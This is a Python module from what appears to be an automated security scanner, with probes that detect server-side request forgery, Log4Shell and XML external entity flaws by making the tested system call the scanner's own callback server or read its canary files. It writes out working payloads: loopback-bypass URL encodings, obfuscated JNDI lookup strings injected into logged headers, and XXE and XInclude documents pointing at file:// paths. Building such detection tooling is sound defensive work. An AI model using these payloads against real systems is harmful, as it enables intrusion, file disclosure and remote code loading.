"""Out-of-band weaknesses (SSRF, XXE, Log4Shell): the system under test is made to call a callback server of ours."""

from __future__ import annotations

import contextlib
import re
from typing import Any, TYPE_CHECKING
from urllib.parse import urlsplit

from SecurityLibrary import readers
from SecurityLibrary.callback_server import PATIENCE
from SecurityLibrary.canary_files import canary_files
from SecurityLibrary.coverage import NotApplicableError
from SecurityLibrary.findings import Severity
from SecurityLibrary.insertion_points import InsertionPoint
from SecurityLibrary.objects import identifier_in
from SecurityLibrary.probes.base import InsertionPointProbe, Probe
from SecurityLibrary.reachable_callbacks import reachable_callback_server
from SecurityLibrary.request_building import encoded, is_file
from SecurityLibrary.sample_files import File, is_xml
from theodore_qa.errors import NotEvaluatedError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator

    from SecurityLibrary.callback_server import CallbackServer
    from SecurityLibrary.findings import Finding
    from SecurityLibrary.operations import InsertableParameter, ScanOperation
    from SecurityLibrary.scan import Scan
    from theodore_qa.systems.exchange import Exchange

ADDRESSES = re.compile(
    r"(?i)url|uri|link|hook|callback|site|image|avatar|icon|target|dest|redirect|feed|host|domain|endpoint|proxy|src"
)


LOCAL = "127.0.0.1"
# What takes back what was asked for, before it is done.
STOPPING = re.compile(
    r"(?i)/(?:cancel|abort|stop|pause|suspend|delete|remove|archive|close|revoke|withdraw|reject|undo)[\w-]*/?$"
)


class CallbackProbe(InsertionPointProbe):
    """An insertion-point probe whose oracle is a callback: everything is sent, then awaited, then confirmed."""

    PAYLOADS: tuple[str, ...]

    def run(self, scan: Scan) -> Iterator[Finding]:
        """Send to all insertion points, wait once for the calls, and repeat what was called."""
        with reachable_callback_server(scan) as callback_server:
            sent: dict[str, tuple[InsertionPoint, str]] = {}

            def send(scan: Scan, point: InsertionPoint) -> Finding | None:
                for payload in self.payloads(point, callback_server):
                    token = callback_server.token()
                    sent[token] = (point, payload)
                    answer = self.put(scan, point, _filled(payload, point, callback_server, token))
                    for follower, given in self.followers(scan, point, answer):
                        scan.sender.send(follower, point.identity, given)
                return None

            yield from scan.over_insertion_points(self.id, self.applies, send, free_text=self.needs_free_text)
            self.beyond(scan, callback_server, sent)
            callback_server.settle()
            confirmed: set[str] = set()
            for point, payload in [what for token, what in sent.items() if callback_server.called(token, 0)]:
                if point.location not in confirmed and (found := self._again(scan, point, payload, callback_server)):
                    confirmed.add(point.location)
                    yield found

    def _again(self, scan: Scan, point: InsertionPoint, payload: str, callback_server: CallbackServer) -> Finding | None:
        """Send what called once more, and what follows it if need be."""
        token = callback_server.token()
        answer = self.put(scan, point, _filled(payload, point, callback_server, token))
        observed = "2 of 2 callbacks from the system under test"
        followers = self.followers(scan, point, answer)
        if callback_server.called(token, PATIENCE if not followers else 1.0):
            return self.finding(point.location, observed, answer)
        for follower, given in followers:
            triggered = scan.sender.send(follower, point.identity, given)
            if callback_server.called(token):
                return self.finding((point.location, str(follower)), f"{observed}, the stored address on {follower}", triggered)
        return None

    def payloads(self, point: InsertionPoint, callback_server: CallbackServer) -> tuple[str, ...]:  # noqa: ARG002  # for probes
        """What is sent to an insertion point."""
        return self.PAYLOADS

    def followers(
        self,
        scan: Scan,  # noqa: ARG002  # for probes whose values are stored
        point: InsertionPoint,  # noqa: ARG002  # as above
        answer: Exchange,  # noqa: ARG002  # as above
    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
        """The operations that may use what was just stored, with its identifier."""
        return []

    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
        """Send to parameters without a good value but the server's own address."""

    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
        """Send one payload."""
        return scan.sender.put(point, value)


class Ssrf(CallbackProbe):
    """The system calls an address that anybody may choose, inside its own network too."""

    id = "ssrf"
    title = "Server-side request forgery"
    topic = "injection"
    severity = Severity.HIGH
    cwe = 918
    owasp = ("A10:2021", "A01:2025", "API7:2023")
    tier = 2
    needs_free_text = False
    sends = (
        "the address of a callback server on loopback, in several writings, into all that looks like an address; then what "
        "names the object in which it was stored, such as POST /webhooks/{id}/test"
    )
    oracle = "the callback server is called, twice, with other tokens"
    bad = 'httpx.get(body["image_url"])'
    good = "refuse hosts whose addresses are private, loopback or link-local; connect to the address that was checked"
    remediation = "Call only hosts of a list; resolve once, refuse private addresses, follow no redirects."

    FOLLOWERS = 4
    PAYLOADS = ("http://{address}/{token}", "http://{address}/{token}#.example.com", "//{address}/{token}", "{address}/{token}")
    # For what refuses loopback by its usual names alone, or takes what begins like an address that it knows.
    LOOPBACK = ("http://127.1:{port}/{token}", "http://2130706433:{port}/{token}", "http://0.0.0.0:{port}/{token}",
                "http://[::ffff:127.0.0.1]:{port}/{token}", "http://localhost:{port}/{token}")  # fmt: skip
    BEHIND = "http://{host}@{address}/{token}"

    def applies(self, point: InsertionPoint) -> bool:
        """What looks like an address by its name, its format or its value."""
        return point.textual and (_an_address(point.parameter) or str(point.value).startswith("http"))

    def payloads(self, point: InsertionPoint, callback_server: CallbackServer) -> tuple[str, ...]:
        """The address of the server, in other writings too where it is on loopback."""
        others = self.LOOPBACK if callback_server.host == LOCAL else ()
        return (*self.PAYLOADS, *others, *((self.BEHIND,) if _host(point) else ()))

    def followers(
        self, scan: Scan, point: InsertionPoint, answer: Exchange
    ) -> list[tuple[ScanOperation, dict[InsertableParameter, Any]]]:
        """Operations below the path, with the identifier of what was made where the path has none yet."""
        if point.operation.safe or not answer.ok:
            return []
        found: list[tuple[ScanOperation, dict[InsertableParameter, Any]]] = []
        for operation in scan.target.operations:
            below = operation.path.removeprefix(point.operation.path.rstrip("/") + "/")
            if (
                below == operation.path
                or operation.method not in ("GET", "POST")
                or scan.plan.skip_reason(operation)
                or STOPPING.search(operation.route)
                or below.count("{") > 1
            ):
                continue
            name = match[1] if (match := re.search(r"\{(\w+)\}", below)) else ""
            parameter = next((each for each in operation.parameters if each.location == "path" and each.name == name), None)
            identifier = identifier_in(answer.body, name) if parameter else None
            if parameter is None or identifier is not None:
                found.append((operation, {parameter: identifier} if parameter else {}))
        return found[: self.FOLLOWERS]

    def beyond(self, scan: Scan, callback_server: CallbackServer, sent: dict[str, tuple[InsertionPoint, str]]) -> None:
        """Where only an address that answers is taken, ours is one."""
        known = {point.location for point in scan.plan.insertion_points(self.id, self.applies)}
        for operation in scan.target.operations:
            for parameter in operation.parameters:
                point = InsertionPoint(operation, parameter, scan.plan.identity_for(operation), "", ())
                if point.location in known or not point.textual or not _an_address(parameter) or scan.plan.skip_reason(operation):
                    continue
                token = callback_server.token()
                with contextlib.suppress(NotEvaluatedError):
                    answer = self.put(scan, point, f"http://{callback_server.address}/{token}")
                    if answer.ok or callback_server.called(token, 1.0):
                        sent[token] = (point, self.PAYLOADS[0])
                        scan.coverage.tried(self.id, point.location)


def _filled(payload: str, point: InsertionPoint, callback_server: CallbackServer, token: str) -> str:
    """A payload with the address of the server and a token."""
    address = callback_server.address
    return payload.format(address=address, token=token, port=address.rpartition(":")[2], host=_host(point))


def _host(point: InsertionPoint) -> str:
    """The host of a good value that is an address; empty where it is none."""
    try:
        return urlsplit(str(point.value)).hostname or ""
    except ValueError:
        return ""


def _an_address(parameter: InsertableParameter) -> bool:
    return bool(ADDRESSES.search(parameter.name)) or parameter.schema.get("format") in ("uri", "url", "hostname")


class Log4Shell(CallbackProbe):
    """What is logged is looked up: a value makes the system load code from elsewhere."""

    id = "log4shell"
    title = "Look-up in logged values (Log4Shell)"
    topic = "injection"
    severity = Severity.CRITICAL
    cwe = 917
    owasp = ("A06:2021", "A03:2025")
    tier = 2
    sends = "${jndi:ldap://...} with the address of a callback server, plain and disguised, in values and in usual headers"
    oracle = "the callback server is called, twice, with other tokens"
    bad = "log4j-core before 2.17.1"
    good = "log4j-core from 2.17.1 on"
    remediation = "Bring the logging library up to date; look-ups in messages must be off."

    PAYLOADS = ("${{jndi:ldap://{address}/{token}}}", "${{${{lower:j}}ndi:${{lower:l}}dap://{address}/{token}}}")
    HEADERS = ("User-Agent", "Referer", "X-Api-Version", "X-Forwarded-For")

    def put(self, scan: Scan, point: InsertionPoint, value: str) -> Exchange:
        """In the value and in headers that are often logged, at once."""
        return scan.sender.put(point, value, headers=dict.fromkeys(self.HEADERS, value))


class Xxe(Probe):
    """An XML document makes the system read files or call addresses."""

    id = "xxe"
    title = "XML external entities"
    topic = "injection"
    severity = Severity.HIGH
    cwe = 611
    owasp = ("A05:2021", "A02:2025")
    tier = 2
    sends = (
        "documents with an entity that stands for a file of the scan's own, and with one that stands for the address of a "
        "callback server, as bodies and as files in forms; and with an element that includes such a file (XInclude)"
    )
    oracle = "the texts of two files come back, or the callback server is called, twice"
    bad = "etree.fromstring(body, etree.XMLParser(resolve_entities=True))"
    good = "defusedxml.ElementTree.fromstring(body)"
    remediation = "Switch document types and external entities off in the XML parser."

    def run(self, scan: Scan) -> Iterator[Finding]:
        """Try every operation that takes XML, as its body or as a file in a form."""
        takers = list(_takers(scan))
        if not takers:
            raise NotApplicableError("no operation takes XML")
        for location, operation, parameter in takers:
            with scan.apart(self.id, location):
                scan.plan.control(operation, scan.plan.identity_for(operation), parameter)
                with contextlib.suppress(NotEvaluatedError):
                    read = self._files(scan, operation, parameter)
                    scan.coverage.tried(self.id, location)
                    if read:
                        yield self.finding(location, "2 of 2 files read through the document", *read)
                        continue
                with contextlib.suppress(NotEvaluatedError), reachable_callback_server(scan) as callback_server:
                    tokens = [callback_server.token(), callback_server.token()]
                    answers = [
                        self._sent(scan, operation, parameter, f"http://{callback_server.address}/{token}") for token in tokens
                    ]
                    scan.coverage.tried(self.id, location)
                    if all(callback_server.called(token, 1) for token in tokens):
                        yield self.finding(location, "2 of 2 callbacks through an external entity", *answers)

    FILES, MOST_TEXTS = 2, 6

    def _files(self, scan: Scan, operation: ScanOperation, parameter: InsertableParameter | None) -> list[Exchange]:
        """The answers that hold both files, for the first text of the document that brings them: others may be too short."""
        texts = len(TEXT.findall(_good(scan, operation, parameter)))
        with canary_files(scan) as files:
            places = range(max(1, min(self.MOST_TEXTS, texts)))
            for write, index in ((write, index) for write in (_document, _including) for index in places):
                read = []
                for _ in range(self.FILES):
                    path, text = files.made()
                    answer = self._sent(scan, operation, parameter, f"file://{path}", index, write)
                    holding = [answer] if text in answer.text else self._left_behind(scan, operation, parameter, answer, text)
                    read += holding[:1]
                    if not holding:
                        break
                if len(read) == self.FILES:
                    return read
        return []

    @staticmethod
    def _left_behind(
        scan: Scan, operation: ScanOperation, parameter: InsertableParameter | None, stored: Exchange, text: str
    ) -> list[Exchange]:
        """The answers that show what a document has left behind, where they hold a text."""
        first = parameter or next(iter(operation.parameters), None)
        if first is None or not stored.ok:
            return []
        point = InsertionPoint(operation, first, scan.plan.identity_for(operation), "", ())
        return [answer for _, answer in readers.read(scan, point, stored, readers.of(scan, point)) if text in answer.text]

    @staticmethod
    def _sent(
        scan: Scan,
        operation: ScanOperation,
        parameter: InsertableParameter | None,
        source: str,
        index: int = 0,
        write: Callable[[object, str, int], bytes] | None = None,
    ) -> Exchange:
        """A good document with an entity that stands for ``source``, or as another one writes it; as the whole body or a file."""
        write = write or _document
        identity, good = scan.plan.identity_for(operation), _good(scan, operation, parameter)
        if parameter is not None:
            file = File("qa.xml", write(good, source, index), "application/xml")
            return scan.sender.send(operation, identity, {parameter: file})
        body = write(scan.sender.builder.renewed(operation, good), source, index)
        return scan.sender.send(operation, identity, body=body)


def _takers(scan: Scan) -> Iterator[tuple[str, ScanOperation, InsertableParameter | None]]:
    """Where XML is taken: as a body, or as a file whose good value is a document."""
    for operation in scan.target.operations:
        if operation.media and operation.media.endswith("xml"):
            yield str(operation), operation, None
        for parameter in operation.parameters:
            if is_file(operation, parameter) and is_xml(_file(scan, operation, parameter)):
                yield f"{operation} {parameter}", operation, parameter


def _file(scan: Scan, operation: ScanOperation, parameter: InsertableParameter) -> File:
    """A good file for a place in a form."""
    with contextlib.suppress(NotEvaluatedError):
        scan.plan.control(operation, scan.plan.identity_for(operation), parameter)  # it may find a better kind of file
    good = scan.sender.builder.good(operation, parameter, scan.plan.identity_for(operation))
    return good if isinstance(good, File) else File("", str(good).encode(), "")


def _good(scan: Scan, operation: ScanOperation, parameter: InsertableParameter | None) -> str:
    """A good document for an operation."""
    if parameter is None:
        return good_document(operation)
    return str(_file(scan, operation, parameter)) or "<a>b</a>"


TEXT = re.compile(r">([^<>]*[^<>\s][^<>]*)<")


def _document(good: object, source: str, index: int = 0) -> bytes:
    """The operation's good document with an entity in place of one of its texts."""
    text = re.sub(r"<\?xml.*?\?>", "", str(good or "<a>b</a>"))
    root = re.search(r"<(\w+)", text)
    texts = list(TEXT.finditer(text))
    start, end = texts[index].span(1) if texts else (0, 0)
    with_entity = f"{text[:start]}&qa;{text[end:]}" if texts else text
    return f'<?xml version="1.0"?><!DOCTYPE {root[1] if root else "a"} [<!ENTITY qa SYSTEM "{source}">]>{with_entity}'.encode()


def _including(good: object, source: str, index: int = 0) -> bytes:
    """The operation's good document with another one included in place of one of its texts (XInclude); it declares nothing."""
    text = str(good or "<a>b</a>")
    include = f'<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="{source}" parse="text"/>'
    texts = list(TEXT.finditer(text))
    start, end = texts[index].span(1) if texts else (0, 0)
    return f"{text[:start]}{include}{text[end:]}".encode() if texts else text.encode()


def good_document(operation: ScanOperation) -> str:
    """The document that an operation is described with."""
    body = operation.body
    return encoded(operation, body, {})[0].decode() if isinstance(body, dict) else str(body or "<a>b</a>")
